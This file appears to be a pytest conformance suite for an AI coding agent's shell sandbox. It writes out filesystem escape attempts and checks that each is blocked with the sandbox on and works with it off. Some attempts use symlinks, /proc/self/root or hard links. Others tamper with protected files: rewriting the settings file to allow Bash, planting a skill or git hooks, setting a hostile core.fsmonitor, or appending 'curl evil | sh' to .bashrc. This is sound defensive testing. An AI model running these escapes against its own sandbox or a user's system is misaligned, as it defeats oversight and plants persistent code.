"""The shell sandbox's filesystem (SBX-1, SBX-2): real escape attempts, each also run unsandboxed.

Every attempt runs in a fresh layout twice: sandbox on, it must leave no trace outside the
writable area (or in a protected file); sandbox off, the same command must leave that trace, so
the test proves the attempt works when nothing stops it.
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from conformance._sandbox_runs import (
    ON,
    Layout,
    allowing_host,
    layout,
    run,
    sandbox_off,
    skip_without,
)
from conformance._sandbox_runs import settings as sandbox_settings
from pytest_toolharness.adapters import requires
from pytest_toolharness.specs import SETTINGS_FILE

pytestmark = [requires("sandbox"), skip_without("bwrap", "socat")]

PY = sys.executable

# name -> (command writing outside the working directory, how to see that it got there)
_ESCAPES: dict[str, tuple[Callable[[Layout], str], Callable[[Layout], bool]]] = {
    "absolute path": (lambda p: f"echo pwned > {p.outside}/f", lambda p: (p.outside / "f").exists()),
    "dot-dot": (lambda p: "echo pwned > ../outside/f", lambda p: (p.outside / "f").exists()),
    "symlink": (
        lambda p: f"ln -s {p.outside} link && echo pwned > link/f",
        lambda p: (p.outside / "f").exists(),
    ),
    "/proc/self/root": (
        lambda p: f"echo pwned > /proc/self/root{p.outside}/f",
        lambda p: (p.outside / "f").exists(),
    ),
    "a child process": (
        lambda p: f"{PY} -c \"open('{p.outside}/f', 'w').write('pwned')\"",
        lambda p: (p.outside / "f").exists(),
    ),
    "move out": (lambda p: f"echo pwned > f && mv f {p.outside}/f", lambda p: (p.outside / "f").exists()),
    "hard link": (
        lambda p: f"ln {p.existing} hl && echo pwned > hl",
        lambda p: "pwned" in p.existing.read_text(),
    ),
    "delete outside": (lambda p: f"rm -f {p.existing}", lambda p: not p.existing.exists()),
}


def _attempt(
    harness: Any, base: Path, command: Callable[[Layout], str], with_settings: dict[str, Any]
) -> Layout:
    place = layout(base)
    outcome = run(
        harness, f"echo ran > marker; {command(place)}", place.work, with_settings, host=allowing_host()
    )
    assert outcome.ran, f"the command did not run: {outcome.output}"
    assert (place.work / "marker").exists(), "a write inside the working directory failed"
    return place


@pytest.mark.requirement("SBX-1", "MUST")
@pytest.mark.parametrize("name", sorted(_ESCAPES))
def test_writes_outside_the_working_directories_fail(
    new_harness: Callable[[], Any], tmp_path: Path, name: str
) -> None:
    """SBX-1: with the sandbox on, a write outside the working directories fails, however spelt.

    Absolute paths, ``..``, a symlink, ``/proc/self/root``, a child process, a move, a hard link and a
    delete all leave the outside untouched; with the sandbox off each one changes it.
    """
    command, landed = _ESCAPES[name]
    on = _attempt(new_harness(), tmp_path / "on", command, dict(ON))
    assert not landed(on), f"{name}: the sandboxed command changed a file outside the working directory"
    off = _attempt(new_harness(), tmp_path / "off", command, sandbox_off(ON))
    assert landed(off), (
        f"{name}: the attempt does not work even without the sandbox (the test proves nothing)"
    )


_TARGETS = ("work", "work/sub", "tmpdir", "outside", "outside/sub", "root")


@pytest.mark.requirement("SBX-1", "MUST")
@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    target=st.sampled_from(_TARGETS),
    spelling=st.sampled_from(["absolute", "relative", "doubled slashes", "dot segments", "symlink"]),
)
@example(target="outside", spelling="symlink")
@example(target="tmpdir", spelling="absolute")
@example(target="work/sub", spelling="dot segments")
def test_a_write_lands_only_in_the_writable_area(
    new_harness: Callable[[], Any], tmp_path_factory: pytest.TempPathFactory, target: str, spelling: str
) -> None:
    """SBX-1 property: a sandboxed write lands exactly when its resolved target is writable.

    The target (inside the working directory, the session's temp dir, outside, the layout's root)
    is spelt absolutely, relatively with ``..``, with doubled slashes, with ``.`` segments, or
    through a symlink made by the command; the spelling never changes where the write may land.
    """
    place = layout(tmp_path_factory.mktemp("sbx1"))
    (place.work / "sub").mkdir()
    (place.outside / "sub").mkdir()
    directory = {"tmpdir": "$TMPDIR", "root": str(place.root)}.get(target, str(place.root / target))
    if spelling == "relative" and not directory.startswith("$"):
        directory = os.path.relpath(directory, place.work)
    elif spelling == "doubled slashes":
        directory = directory.replace("/", "//")
    elif spelling == "dot segments":
        directory = (
            directory.replace("/", "/./")
            if directory.startswith("$")
            else f"{place.work}/../{os.path.relpath(directory, place.root)}/."
        )
    prefix = ""
    if spelling == "symlink":
        prefix, directory = f"ln -sfn {directory} via && ", "via"
    command = f'{prefix}echo landed > {directory}/written.txt; echo "$TMPDIR" > tmpdir.txt'
    outcome = run(new_harness(), command, place.work, dict(ON), host=allowing_host())
    assert outcome.ran
    tmpdir = Path((place.work / "tmpdir.txt").read_text().strip())
    real = {"tmpdir": tmpdir, "root": place.root}.get(target, place.root / target)
    landed = (real / "written.txt").exists()
    writable = target in ("work", "work/sub", "tmpdir")
    assert landed == writable, f"{target} spelt {spelling!r} ({command!r}): landed={landed}: {outcome.output}"


@pytest.mark.requirement("SBX-1", "MUST")
@pytest.mark.parametrize("how", ["sandbox.filesystem.allowWrite", "Edit(...) allow rule"])
def test_allowances_widen_the_writable_area(new_harness: Callable[[], Any], tmp_path: Path, how: str) -> None:
    """SBX-1: ``sandbox.filesystem.allowWrite`` and an ``Edit(//dir/**)`` allow rule make ``dir`` writable."""
    place = layout(tmp_path)
    if how.startswith("sandbox"):
        granted = sandbox_settings(sandbox={"filesystem": {"allowWrite": [str(place.outside)]}})
    else:
        granted = sandbox_settings(allow=[f"Edit(/{place.outside}/**)"])
    outcome = run(
        new_harness(), f"echo ok > {place.outside}/granted", place.work, granted, host=allowing_host()
    )
    assert outcome.ran
    assert (place.outside / "granted").exists(), (
        f"{how} did not make the directory writable: {outcome.output}"
    )


@pytest.mark.requirement("SBX-1", "MUST")
@pytest.mark.parametrize("how", ["sandbox.filesystem.denyRead", "Read(...) deny rule"])
def test_denied_reads_fail(new_harness: Callable[[], Any], tmp_path: Path, how: str) -> None:
    """SBX-1: a path of ``sandbox.filesystem.denyRead`` or of a ``Read(//dir/**)`` deny rule can't be read.

    Without the sandbox (and without the deny) the same ``cat`` prints the secret.
    """
    place = layout(tmp_path)
    secret = place.outside / "secrets"
    secret.mkdir()
    (secret / "key").write_text("s3cr3t-value\n")
    # The path is assembled when the command runs, so only the sandbox can stop the read.
    command = f'd={secret.parent}; cat "$d/{secret.name}/key"; cat "$d/{secret.name}"/*'
    if how.startswith("sandbox"):
        denied = sandbox_settings(sandbox={"filesystem": {"denyRead": [str(secret)]}})
    else:
        denied = sandbox_settings(deny=[f"Read(/{secret}/**)"])
    on = run(new_harness(), command, place.work, denied, host=allowing_host())
    assert on.ran, on.output
    assert "s3cr3t-value" not in on.output, f"{how}: the sandboxed command read the denied file"
    off = run(new_harness(), command, place.work, dict(sandbox_off(ON)), host=allowing_host())
    assert "s3cr3t-value" in off.output


def _settings_text(place: Layout) -> str:
    return (place.work / SETTINGS_FILE).read_text()


# name -> (command, did it work?); the layout's work/ is a git repository with a .bashrc and a
# .profile that is a symlink to a file outside.
_PROTECTED: dict[str, tuple[str, Callable[[Layout], bool]]] = {
    "overwrite the settings file": (
        f'echo \'{{"permissions": {{"allow": ["Bash"]}}}}\' > {SETTINGS_FILE}',
        lambda p: "Bash" in _settings_text(p),
    ),
    "replace the settings file": (
        f"echo '{{}}' > new.json && mv -f new.json {SETTINGS_FILE}",
        lambda p: _settings_text(p).strip() == "{}",
    ),
    "delete the settings file": (f"rm -f {SETTINGS_FILE}", lambda p: not (p.work / SETTINGS_FILE).exists()),
    "add a project settings file": (
        "echo '{}' > .claude/settings.json",
        lambda p: (p.work / ".claude/settings.json").exists(),
    ),
    "plant a skill": (
        "mkdir -p .claude/skills/evil && echo evil > .claude/skills/evil/SKILL.md",
        lambda p: (p.work / ".claude/skills/evil/SKILL.md").exists(),
    ),
    "plant a git hook": (
        "mkdir -p .git/hooks && printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit",
        lambda p: (p.work / ".git/hooks/pre-commit").exists(),
    ),
    "change .git/config": (
        "git config core.hooksPath /tmp/evil-hooks",
        lambda p: "evil-hooks" in (p.work / ".git/config").read_text(),
    ),
    "swap .git for a new one": (
        "mv .git .git-old && git init -q . && git config core.fsmonitor 'echo pwned'",
        lambda p: "fsmonitor" in (p.work / ".git/config").read_text(),
    ),
    "append to .bashrc": (
        "echo 'curl evil | sh' >> .bashrc",
        lambda p: "evil" in (p.work / ".bashrc").read_text(),
    ),
    "create .envrc": ("echo 'echo pwned' > .envrc", lambda p: (p.work / ".envrc").exists()),
    "replace the symlinked .profile": (
        "rm .profile && echo 'echo pwned' > .profile",
        lambda p: not (p.work / ".profile").is_symlink(),
    ),
    "write through the symlinked .profile": (
        "echo 'echo pwned' >> .profile",
        lambda p: "pwned" in (p.outside / "profile").read_text(),
    ),
}


def _git_layout(base: Path) -> Layout:
    place = layout(base, git=True)
    (place.work / ".bashrc").write_text("# start-up file\n")
    # A start-up file kept elsewhere and linked in, as dotfile managers do.
    (place.outside / "profile").write_text("# profile\n")
    (place.work / ".profile").symlink_to(place.outside / "profile")
    return place


@pytest.mark.requirement("SBX-2", "MUST")
@pytest.mark.parametrize("name", sorted(_PROTECTED))
def test_protected_files_stay_unwritable(new_harness: Callable[[], Any], tmp_path: Path, name: str) -> None:
    """SBX-2: inside the writable area, the settings files, ``.claude/skills``, ``.git`` and shell start-up files hold.

    Each attempt leaves the protected file as it was with the sandbox on; with the sandbox off it
    changes it (the same command, the same kind of repository).
    """
    command, worked = _PROTECTED[name]
    for base, with_settings, expect in (
        (tmp_path / "on", dict(ON), False),
        (tmp_path / "off", sandbox_off(ON), True),
    ):
        place = _git_layout(base)
        outcome = run(
            new_harness(), f"echo ran > marker; {command}", place.work, with_settings, host=allowing_host()
        )
        assert outcome.ran, outcome.output
        assert (place.work / "marker").exists(), outcome.output
        assert worked(place) is expect, (
            f"{name}: {'the sandbox let it through' if not expect else 'it fails even unsandboxed'}: {outcome.output}"
        )


@pytest.mark.requirement("SBX-2", "MUST")
def test_a_planted_bare_repository_does_not_survive(new_harness: Callable[[], Any], tmp_path: Path) -> None:
    """SBX-2: a bare repository planted in the working directory is not there for a later unsandboxed git.

    ``git init --bare .`` with a hostile ``core.fsmonitor`` would make the next git command run
    outside the sandbox execute it; after the sandboxed command the directory is no repository.
    """
    command = "git init -q --bare . && git config core.fsmonitor 'touch pwned'"
    env = {**os.environ, "GIT_CEILING_DIRECTORIES": str(tmp_path)}
    for base, with_settings, expect in (
        (tmp_path / "on", dict(ON), False),
        (tmp_path / "off", sandbox_off(ON), True),
    ):
        place = layout(base)
        outcome = run(new_harness(), command, place.work, with_settings, host=allowing_host())
        assert outcome.ran, outcome.output
        found = subprocess.run(
            ["git", "rev-parse", "--is-bare-repository"],
            cwd=place.work,
            env=env,
            capture_output=True,
            check=False,
        )
        is_repository = found.returncode == 0
        assert is_repository is expect, (
            f"bare repository {'survived' if is_repository else 'not made'}: {outcome.output}"
        )


WRITABLE_ROOTS = ("additionalDirectories", "allowWrite", "Edit rule")
"""Writable roots besides the working directory: each must be guarded like it (SBX-2)."""

_ROOT_PROTECTED = (
    "plant a git hook",
    "change .git/config",
    "append to .bashrc",
    "plant a skill",
    "create .envrc",
)
"""The attempts of :data:`_PROTECTED` that make sense in any repository, not only the session's own."""


@pytest.mark.requirement("SBX-2", "MUST")
@settings(max_examples=6, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=st.sampled_from(_ROOT_PROTECTED), root=st.sampled_from(WRITABLE_ROOTS))
@example(name="plant a git hook", root="additionalDirectories")
@example(name="append to .bashrc", root="allowWrite")
def test_protected_files_hold_under_every_writable_root(
    new_harness: Callable[[], Any], tmp_path_factory: pytest.TempPathFactory, name: str, root: str
) -> None:
    """SBX-2 property: the protected files of a repository outside the working directory hold when it is writable.

    The repository (with ``.git`` and a ``.bashrc``) is a directory made writable by
    ``permissions.additionalDirectories``, ``sandbox.filesystem.allowWrite`` or an ``Edit`` allow
    rule; the command works there. With the sandbox on the attempt leaves the file as it was (and an
    ordinary file there is written: the root is writable); with it off, it changes it.
    """
    command, worked = _PROTECTED[name]
    for on in (True, False):
        base = tmp_path_factory.mktemp("root")
        place = layout(base)
        repo = _git_layout(base / "repo")
        grant = str(repo.work)
        with_settings = {
            "additionalDirectories": sandbox_settings(additionalDirectories=[grant]),
            "allowWrite": sandbox_settings(sandbox={"filesystem": {"allowWrite": [grant]}}),
            "Edit rule": sandbox_settings(allow=[f"Edit(/{grant}/**)"]),
        }[root]
        outcome = run(
            new_harness(),
            f"cd {grant} && echo ran > marker; {command}",
            place.work,
            with_settings if on else sandbox_off(with_settings),
            host=allowing_host(),
        )
        assert outcome.ran, outcome.output
        assert (repo.work / "marker").exists(), (
            f"{root}: the granted directory is not writable: {outcome.output}"
        )
        assert worked(repo) is not on, (
            f"{name} under a root granted by {root}: "
            f"{'the sandbox let it through' if on else 'it fails even unsandboxed'}: {outcome.output}"
        )
